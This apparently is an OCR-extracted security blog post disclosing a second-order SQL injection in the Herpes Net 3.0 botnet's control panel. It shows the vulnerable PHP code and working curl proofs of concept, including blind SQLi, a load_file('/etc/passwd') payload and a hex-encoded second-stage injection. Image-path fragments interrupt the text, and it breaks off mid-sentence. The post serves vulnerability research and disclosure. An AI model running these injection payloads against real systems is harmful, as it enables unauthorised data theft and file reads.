@botnet_hunter's blog
Herpes Net 3.0 SQLi

During my talk at RSAC 2014, we announced multiple botnet vulnerabilities which had been discovered. The following vulnerability is one of them. Herpes Net is botnet with a wide range of functions, with everything from opening the CD tray to mining bitcoins (via plugins). With a vulnerability in the command and control panel, we can get information on the botnet operator.

When this vulnerability was discovered by myself, I had thought it was a rediscovery of a vulnerability discovered by malware.lu. Upon further investigation into their proof ofconcept, I found that the parameter they are injecting on no longer exists. Instead of injecting on the ‘id’ parameter, we can inject on the the ‘hwid’ parameter. The following is the vulnerable code (only relevant code displayed).

    $hwid = $_POST['hwid'];
    if($header == "74978b6ecc6c19836a17a3c2cd0840b0")
        if ($hwid <> "")
            $bottest = mysql_query("SELECT * FROM clients WHERE hwid = '$hwid'");
            while($row = mysql_fetch_array($bottest))
            {$id = $row['id'];}
            if(mysql_num_rows($bottest) == 1){
                $result = mysql_query("SELECT * FROM commands WHERE botid = '$id' AND viewed = '0' LIMIT 1");
                while($row = mysql_fetch_array($result))
                    echo $row['cmd']."|".$row['variable'];

A keen eye will notice that there are two vulnerable queries in this code selection. The first query, while injectable, does not have a direct influence on output. While blind SQL injection is not improbable, it does make for quite a bit more noise when trying to extract information. Just for reference though, here is a proof of concept blind SQLi.curl -A "74978b6ecc6c19836a17a3c2cd0840b0" -v http://c2.com/panels/herpes/run.php -d "hwid=' AND 1=2 UNION ALL SELECT 1,2,3,4,5,6,7,8,BENCHMARK(10000, SLEEP(1000)) -- --"

This should sleep for quite a while if exploited successfully. If only we can get a result from the database to print out, we could use a much simpler, faster and quieter exploit. If we return a SQL injection payload from the first query, we can exploit the next one, and return data to be read. Here is what we want in our second query’s payload for a proof of concept.

' AND 1=2 UNION ALL SELECT1,2,load_file('/etc/passwd'),4,5 -- --

In order to do that, we should hex encode it.


And now our proof of concept looks like the following.

curl -A "74978b6ecc6c19836a17a3c2cd0840b0" -vhttp://c2.com/panels/herpes/run.php -d "hwid=' AND 1=2 UNION ALL SELECT 0x2720414e4420313d3220554e494f4e20414c4c2053454c45435420312c322c6c6f61645f66696c6528272f6574632f70617373776427292c342c35202d2d202d2d,2,3,4,5,6,7,8,9 -- --"

The data returned will be followed by ‘|4’ as that is what is being returned in the ‘variable’ row. We can of course control this value as well if needed.

Here is a proof of concept which uses this second order SQL injection to extract thebot information fromthe database.

Design pdevty